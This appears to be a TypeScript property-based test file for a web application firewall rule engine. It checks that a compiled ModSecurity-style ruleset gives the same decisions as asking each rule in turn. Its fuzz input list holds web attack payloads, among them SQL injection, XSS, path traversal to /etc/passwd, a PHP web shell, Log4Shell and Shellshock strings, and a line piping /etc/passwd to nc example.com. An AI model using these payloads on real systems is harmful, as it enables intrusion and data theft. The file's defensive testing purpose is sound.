import { equal, ok } from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { DEBIAN_RULES } from '../../bench/peers/modsecurity.ts'
import { anyRules } from './any-rules.ts'
import { askBoth, PLACE, plainOf } from './plain.ts'
import { type Asked, ask, FORM, JSON_BODY, loaded } from './rulesets.ts'

/** Of a request those rules are asked that it concerns: it is told the same as if each rule had been asked in its order. */

const ATTACKS = [
  "1' or 1=1 -- ",
  '1 union all select password from users',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%252f..%252fetc%252fshadow',
  '; cat /etc/passwd | nc example.com 80',
  '$(wget http://example.com/x)',
  '<?php system($_GET[0]); ?>',
  'php://filter/convert.base64-encode/resource=index.php',
  'http://127.0.0.1/x?',
  ['$', '{jndi:ldap://example.com/a}'].join(''),
  'java.lang.Runtime',
  'O:8:"stdClass":0:{}',
  'a\r\nSet-Cookie: b=c',
  'document.cookie="PHPSESSID=1"',
  '() { :;}; echo x',
  'sqlmap/1.5',
  '\0',
  '%uff1cscript',
]
const PIECES = [
  'a',
  'Z',
  '7',
  ' ',
  "'",
  '"',
  '<',
  '>',
  '=',
  '(',
  ')',
  ';',
  '/',
  '\\',
  '%',
  '&',
  '+',
  '-',
  '.',
  '\n',
  'é',
]

const text = fc
  .array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...PIECES) }, fc.constantFrom(...ATTACKS)), { maxLength: 5 })
  .map((pieces) => pieces.join(''))
const name = fc.constantFrom('q', 'reference', 'SID', '_charset_', 'PHPSESSID', 'a.b', 'x[$ne]')
const header = fc.constantFrom(
  'user-agent',
  'referer',
  'accept',
  'cookie',
  'range',
  'x-filename',
  'content-length',
  'host',
)

/** Requests with a text somewhere, or several. */
const request = fc
  .record({
    where: fc.constantFrom('query', 'form', 'json', 'xml', 'raw', 'header', 'path', 'multipart'),
    method: fc.constantFrom('GET', 'POST', 'HEAD', 'PUT', 'TRACE'),
    values: fc.array(fc.tuple(name, text), { maxLength: 3 }),
    headers: fc.dictionary(header, text, { maxKeys: 2 }),
  })
  .map(({ where, method, values, headers }): Asked => {
    const all = values.map(([, value]) => value).join(' ')
    const pairs = values.map(([key, value]) => `${encodeURIComponent(key)}=${encodeURIComponent(value)}`).join('&')
    const of: Record<string, Asked> = {
      query: { method, target: `/v1/transfers?${pairs}` },
      form: { body: pairs, headers: FORM },
      json: { body: JSON.stringify(Object.fromEntries(values)), headers: JSON_BODY },
      xml: { body: `<a b="x">${all}</a>`, headers: { 'content-type': 'text/xml' } },
      raw: { body: all, headers: { 'content-type': 'text/plain' } },
      header: { method, headers: { cookie: `a=${all}` } },
      path: { method, target: `/${encodeURIComponent(all)}/${all.replaceAll(/[\s?]/g, '')}` },
      multipart: {
        body: `--b\r\nContent-Disposition: form-data; name="q"; filename="${all}"\r\n\r\n${all}\r\n--b--\r\n`,
        headers: { 'content-type': 'multipart/form-data; boundary=b' },
      },
    }
    const asked = of[where] ?? {}
    return { ...asked, headers: { ...asked.headers, ...headers } }
  })

const noRules = existsSync(DEBIAN_RULES.rules) ? false : 'modsecurity-crs is not here'

describe('the Core Rule Set tells the same as if all of its rules were asked', { skip: noRules }, () => {
  for (const paranoia of [1, 4]) {
    it(`at paranoia ${paranoia}`, () => {
      const folder = DEBIAN_RULES.rules
      const files = readdirSync(folder).map((name) => ({
        path: join(folder, name),
        text: readFileSync(join(folder, name), 'latin1'),
      }))
      const exclude = [
        { rule: '942100', tag: null, target: 'ARGS:reference', routes: ['any'], place: PLACE },
        { rule: '941160', tag: null, target: null, routes: ['any'], place: PLACE },
        { rule: null, tag: 'attack-lfi', target: 'ARGS:q', routes: ['any'], place: PLACE },
      ]
      const ruleset = loaded('', { files, paranoia, exclude })
      const plain = plainOf('', { files, paranoia, exclude })
      let denied = 0
      fc.assert(
        fc.property(request, fc.constantFrom('any', 'other'), (asked, route) => {
          if (askBoth(ruleset, plain, { ...asked, route }).effect === 'deny') denied += 1
        }),
        { numRuns: 150 },
      )
      ok(denied > 10 && denied < 150, `${denied} were denied`)
    })
  }
})

it('Any rules tell the same as if each were asked', () => {
  let matched = 0
  fc.assert(
    fc.property(anyRules, fc.array(request, { minLength: 1, maxLength: 6 }), (written, requests) => {
      const ruleset = loaded(written)
      const plain = plainOf(written)
      for (const asked of requests) {
        const { effect, signs } = askBoth(ruleset, plain, asked)
        if (effect === 'deny' || signs.length > 0) matched += 1
      }
    }),
    { numRuns: 300 },
  )
  ok(matched > 50, `${matched} matched`)
})

it('A text concerns a rule in any of the forms in which the rule looks at it', () => {
  const ruleset = loaded('SecRule ARGS "@contains or 1" "id:1,phase:2,t:lowercase,t:removeWhitespace,multiMatch,deny"')
  equal(ask(ruleset, { target: '/?q=OR%201' }).rule, '1')
  equal(ask(ruleset, { target: '/?q=OR1' }).rule, null)
})

it('What is the same for every request is decided as it would be asked', () => {
  equal(ask(loaded('SecRule &TX:level "!@pm script" "id:1,phase:1,deny"'), {}).rule, '1')
  const text = [
    'SecAction "id:1,phase:1,pass,nolog,setvar:tx.level=2"',
    'SecRule REQUEST_METHOD "@within %{tx.level} GET" "id:2,phase:1,chain,deny,setvar:tx.level=3"',
    'SecRule ARGS:level "@streq %{tx.level}"',
  ].join('\n')
  equal(ask(loaded(text), { target: '/?level=2' }).rule, null)
  equal(ask(loaded(text), { target: '/?level=3' }).rule, '2')
})

it('Where there is too much to be found out beforehand, each rule is asked', () => {
  const written = [
    'SecRule ARGS:first "@streq evil" "id:1,phase:2,deny"',
    'SecRule ARGS "@rx [ab]+x" "id:2,phase:2,t:lowercase,deny"',
  ].join('\n')
  const ruleset = loaded(written, { stepsMax: 200_000 })
  const plain = plainOf(written, { stepsMax: 200_000 })
  const long = 'ab'.repeat(60_000)
  const many = Array.from({ length: 25_000 }, (_, n) => `p${n}=v`).join('&')
  for (const rest of [`q=${long}`, `q=${long}X`, many]) {
    askBoth(ruleset, plain, { body: `first=kind&${rest}`, headers: FORM })
    askBoth(ruleset, plain, { body: `first=evil&${rest}`, headers: FORM })
  }
})
